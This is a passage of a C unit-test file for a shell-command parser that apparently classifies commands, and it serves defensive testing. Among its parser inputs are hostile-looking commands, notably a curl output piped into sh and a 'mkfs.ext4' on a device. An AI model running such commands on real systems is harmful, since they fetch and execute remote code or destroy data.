	r = locus_shell_parser_parse(p, "echo 0123456789abcdef", 21);
	ck_assert(!locus_shell_result_parsed(r));
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "larger"));
	locus_shell_result_free(r);
	for (int i = 0; i < 100; i++) {
		r = locus_shell_parser_parse(p, "a | b", 5);
		ck_assert(locus_shell_result_parsed(r));
		locus_shell_result_free(r);
	}
	locus_shell_parser_free(p);
	locus_shell_parser_free(NULL);
	/* an options struct of an unknown version is refused */
	locus_shell_options bad = LOCUS_SHELL_OPTIONS_INIT;
	bad.version = 0;
	p = (locus_shell_parser *)&bad;
	ck_assert_int_eq(locus_shell_parser_new(&p, &bad), LOCUS_EINVALID);
	ck_assert_ptr_null(p);
	bad.version = LOCUS_SHELL_OPTIONS_VERSION + 1;
	ck_assert_ptr_null(locus_shell_parse("ls", 2, &bad));
	locus_shell_result_free(NULL);
}
END_TEST

/* The reserved-word table is binary-searched: every word is found (a
   word out of order would be missed), and near misses are not. */
START_TEST(reserved_words_table)
{
	/* clang-format off */
	static const char *const yes[] = {
		"!", "{", "}", "[[", "]]", "if", "then", "elif", "else", "fi",
		"case", "esac", "for", "select", "while", "until", "do",
		"done", "in", "function",
	};
	/* clang-format on */
	/* clang-format off */
	static const char *const no[] = {
		"time", "coproc", "", "iff", "f", "{{", "[", "]", "ls", "Fi",
	};
	/* clang-format on */
	for (size_t i = 0; i < sizeof yes / sizeof *yes; i++)
		ck_assert_msg(lp_is_reserved_word(yes[i]), "%s", yes[i]);
	for (size_t i = 0; i < sizeof no / sizeof *no; i++)
		ck_assert_msg(!lp_is_reserved_word(no[i]), "%s", no[i]);
}
END_TEST

/* Each command's program-table row is found once, when it is pushed
  , and is the row lk_program_find gives its name: through
   wrappers, nested scripts, xargs, versioned and aliased names, paths,
   unknown programs and commands without a name.  A result without the
   rows (built by hand) looks the name up. */
START_TEST(command_rows)
{
	/* clang-format off */
	static const char *const lines[] = {
		"sudo -u root env X=1 timeout 5 python3.12 -c 'print(1)'",
		"find . -name x -exec /usr/bin/rm -f {} + | xargs -0 gfind",
		"bash -c \"nodejs a.js; $(curl -s x) | sh\" && git-log -1",
		"X=1; unknown-tool a b; mkfs.ext4 /dev/x; ipython3 -c 1",
		"echo a | tee b > c; (cd d && ls)",
	};
	/* clang-format on */
	size_t rows = 0;
	for (size_t l = 0; l < sizeof lines / sizeof *lines; l++) {
		locus_shell_result *r =
		    locus_shell_parse(lines[l], strlen(lines[l]), NULL);
		ck_assert_ptr_nonnull(r);
		size_t n = locus_shell_result_count(r);
		ck_assert_uint_gt(n, 1);
		for (size_t i = 0; i < n; i++) {
			const locus_shell_command *c =
			    locus_shell_result_command(r, i);
			const lk_program *want = lk_program_find(c->name);
			ck_assert_msg(lp_command_program(r, i) == want,
			              "%s: command %zu (%s)", lines[l], i,
			              c->name);
			rows += want != NULL;
		}
		ck_assert_ptr_null(lp_command_program(r, n));
		/* without the rows (a result built by hand) */
		const struct lk_program **kept = r->programs;
		r->programs = NULL;
		for (size_t i = 0; i < n; i++)
			ck_assert(lp_command_program(r, i) ==
			          lk_program_find(
			              locus_shell_result_command(r, i)->name));
		r->programs = kept;
		locus_shell_result_free(r);
	}
	ck_assert_uint_ge(rows, 14); /* the lines name known programs */
	ck_assert_ptr_null(lp_command_program(NULL, 0));
}
END_TEST

/* A file written twice and run by what is written in it: each write is
   parsed on its own, so the scripts doubled at every level (2^depth: the
   line below made 100,000 commands in 0.56 s and fuzz_fastpath's 96-byte
   input a 23 MB verdict).  The written scripts of a line are bounded. */
START_TEST(written_runs_bounded)
{
	locus_shell_result *r =
	    parse("echo 'sh x' > x; echo 'sh x' >> x; sh x");
	ck_assert(!locus_shell_result_parsed(r));
	/* 64 more than the line's own 3 commands */
	ck_assert_ptr_nonnull(
	    strstr(locus_shell_result_reason(r), "writes more than 67 times"));
	ck_assert_uint_lt(locus_shell_result_count(r), 200);
	locus_shell_result_free(r);
	/* one write, run once: parsed as before */
	r = parse("echo 'ls' > x; sh x");
	ck_assert(locus_shell_result_parsed(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 3);
	locus_shell_result_free(r);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("parser");
	TCase *tc = tcase_create("walk");
	tcase_add_loop_test(tc, walk_forms, 0,
	                    (int)(sizeof forms / sizeof forms[0]));
	tcase_add_test(tc, walk_connectors_and_pipelines);
	tcase_add_test(tc, syms_looked_up_lazily);
	tcase_add_test(tc, reserved_words_table);
	tcase_add_test(tc, walk_background_pipeline);
	tcase_add_test(tc, walk_lone_dollar_after_quote);
	tcase_add_test(tc, walk_substitution_parent_depth);
	tcase_add_test(tc, walk_depth_limit);
	tcase_add_test(tc, walk_functions_and_fork_bomb);
	tcase_add_test(tc, walk_redirect_flags);
	tcase_add_test(tc, walk_heredoc_stdin);
	tcase_add_test(tc, walk_stdin_reaches_shell);
	tcase_add_test(tc, walk_assign_only_and_decl);
	tcase_add_loop_test(tc, walk_constants, 0,
	                    (int)(sizeof consts / sizeof consts[0]));
	tcase_add_loop_test(tc, walk_checks, 0,
	                    (int)(sizeof checks / sizeof checks[0]));
	tcase_add_test(tc, walk_time_compound);
	tcase_add_test(tc, walk_unparsed_still_lists);
	tcase_add_test(tc, walk_parser_reuse_and_options);
	tcase_add_test(tc, command_rows);
	tcase_add_test(tc, written_runs_bounded);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
